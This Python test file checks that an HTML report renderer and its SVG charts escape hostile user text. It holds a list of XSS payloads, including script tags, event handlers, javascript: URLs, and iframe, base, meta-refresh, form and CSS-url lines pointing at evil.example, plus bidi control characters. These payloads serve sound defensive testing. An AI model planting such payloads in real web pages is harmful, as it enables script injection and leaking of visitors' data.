"""No text of a user runs, leaves its place, turns the page around or makes it huge."""

from __future__ import annotations

import json
import re
from itertools import islice, product
from pathlib import Path

import jinja2
import pyarrow as pa
import pytest

from glm_batch.pipelines.job import TaskConfig
from glm_batch.pipelines.report import charts
from glm_batch.pipelines.report.charts import MOST, shown
from glm_batch.pipelines.report.page import _asset, render
from tests.pipelines.report.world import LABELS, Page, a_job, chosen, commit_rows, page_of

PIECES = [
    "<script>alert({n})</script>", "</script><script>alert({n})</script>", "<img src=x onerror=alert({n})>",
    '"><svg onload=alert({n})>', "' onmouseover='alert({n})", '" style="background:url(https://evil.example/{n})"',
    "</style><style>*{{display:none}}</style>", "<iframe src=//evil.example/{n}>", "<!--", "-->", "]]>",
    "javascript:alert({n})", "<a href=javascript:alert({n})>", "{{{{ 7*{n} }}}}", "{{% raw %}}", "&lt;b&gt;",
    "&#x3c;b", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example>",
    "</bdi></table></main>", "<math><mtext></mtext></math>", "<template><script>{n}</script></template>",
    "`${{alert({n})}}`",
]  # fmt: skip
AROUND = [
    ("", ""), ("\u202e", "\u202c"), ("\u2066", "\u2069"), ("\u200f", ""), ("\0", "\0"), ("\x1b[31m", "\x07"),
    ("\ufeff", "\u2028"), ("\u0645\u0631\u062d\u0628\u0627 ", ""), ("\U0001f469\u200d\U0001f52c", ""),
    ("a\r\n\t", "\x85"),
]  # fmt: skip
HOSTILE = [
    before + piece.format(n=n) + f" #{n} " + after
    for n, (piece, (before, after)) in enumerate(islice(product(PIECES * 5, AROUND), 1000))
]
ALLOWED = {
    "html", "head", "meta", "title", "link", "style", "body", "header", "p", "h1", "h2", "h3", "span", "dl", "div",
    "dt", "dd", "code", "bdi", "nav", "a", "main", "ul", "li", "section", "table", "caption", "thead", "tbody", "tr",
    "th", "td", "svg", "desc", "rect", "line", "text", "path", "circle", "polygon", "details", "summary", "article",
    "figure", "figcaption", "img", "small", "strong", "pre", "footer", "script", "button",
}  # fmt: skip


def test_there_are_a_thousand() -> None:
    assert len(set(HOSTILE)) == 1000


def check(page: Page) -> None:
    """Nothing but our own elements; one style and one script, as shipped; no handler, no link to
    elsewhere.
    """
    assert {tag for tag, _ in page.elements} <= ALLOWED
    assert page.raw == {"style": [_asset("style.css")], "script": [_asset("sort.js")]}
    for tag, attributes in page.elements:
        assert not [
            name
            for name in attributes
            if name.startswith("on") or name in ("style", "srcset", "action")
        ]
        assert (attributes.get("href") or "#").startswith("#") or tag == "link"
        assert (attributes.get("src") or "data:image/").startswith("data:image/")
    policies = [
        each["content"] for tag, each in page.elements if tag == "meta" and "http-equiv" in each
    ]
    assert len(policies) == 1
    assert (policies[0] or "").startswith("default-src 'none';")
    assert not re.search("[\0\x07\x1b\x85\u200f\u202a-\u202e\u2066-\u2069\ufeff\u2028]", page.html)
    page.html.encode("utf-8")


@pytest.mark.parametrize("start", range(0, 1000, 250))
def test_hostile_rows(start: int, tmp_path: Path) -> None:
    """In every place that a user's text can take: keys, prompts, answers, labels, gold, errors,
    names.
    """
    some = HOSTILE[start : start + 250]
    labels = [*some[:3], *LABELS]
    folder = tmp_path / "<img src=x onerror=alert(1)>"
    folder.mkdir()
    job = a_job(
        folder,
        TaskConfig(kind="choose", system=some[0], prompt="{text}", labels=labels, gold="gold"),
    )
    weights = [1 / 2, 1 / 4, 1 / 8, 1 / 16, 1 / 32, 1 / 32]
    answers = [
        {"error_code": f"code {text}", "error_message": text}
        if n % 5 == 0
        else chosen(weights[n % 6 :] + weights[: n % 6], labels)
        for n, text in enumerate(some)
    ]
    rows = pa.table(
        {"id": [f"{n} {text}" for n, text in enumerate(some)], "text": some, "gold": some[::-1]}
    )
    check(page_of(commit_rows(job, rows, answers), job))


@pytest.mark.parametrize("kind", ["generate", "extract", "tag", "classify"])
def test_hostile_answers_of_each_kind(kind: str, tmp_path: Path) -> None:
    def answer(text: str) -> dict[str, object]:
        return {
            "generate": {
                "text": text,
                "reasoning": text,
                "finish_reason": text,
                "logprobs": [-1.0],
            },
            "extract": {"json": json.dumps({text: text, "x": [text]})},
            "tag": {"tokens": [{"text": text, "start": 0, "end": 1, "label": text, "score": 0.5}]},
            "classify": {"scores": [0.4, 0.6], "label": text},
        }[kind]

    job = a_job(tmp_path, TaskConfig(kind=kind, prompt="{text}"))  # type: ignore[arg-type]
    rows = pa.table({"id": list(range(1000)), "text": HOSTILE})
    facts = {"label_names": HOSTILE[:2]}
    check(page_of(commit_rows(job, rows, [answer(text) for text in HOSTILE], facts=facts), job))


def test_long_texts_are_cut_and_said_to_be(tmp_path: Path) -> None:
    job = a_job(tmp_path, TaskConfig(kind="generate", prompt="{text}", gold="gold"))
    long = "<script>x</script>" * 60_000
    rows = pa.table(
        {"id": [f"{n}{long}" for n in range(4)], "text": [long] * 4, "gold": [long[1:]] * 4}
    )
    answer = {"text": long, "reasoning": long, "finish_reason": "stop", "logprobs": None}
    answers = [answer, {"error_code": "odd", "error_message": long}] * 2
    page = page_of(commit_rows(job, rows, answers), job)
    check(page)
    assert len(page.html) < 400_000
    assert f"of {len(long):,} characters shown]" in page.text


def test_whatever_reaches_a_template_is_made_harmless() -> None:
    """Lone surrogates cannot come through Arrow; from JSON they can."""
    for text in [*HOSTILE, "\ud800 lone", "x" * 1_000_000]:
        told = shown(text)
        told.encode("utf-8")
        assert len(told) < MOST + 3000
        assert not re.search("[\0\u202e\u2066]", told)
    with pytest.raises(jinja2.UndefinedError):
        render("job.html.jinja", title="x")


def test_charts_escape_what_they_write() -> None:
    from xml.etree import ElementTree

    for text in HOSTILE:
        point = charts.Point(x=1.0, y=0.5, low=0.4, high=0.6, name=text)
        svg = charts.scatter([point, point], title=text, x_name=text, y_name=text)
        root = ElementTree.fromstring(svg)
        assert {each.tag for each in root.iter()} <= {
            "svg",
            "title",
            "desc",
            "line",
            "text",
            "circle",
            "path",
        }
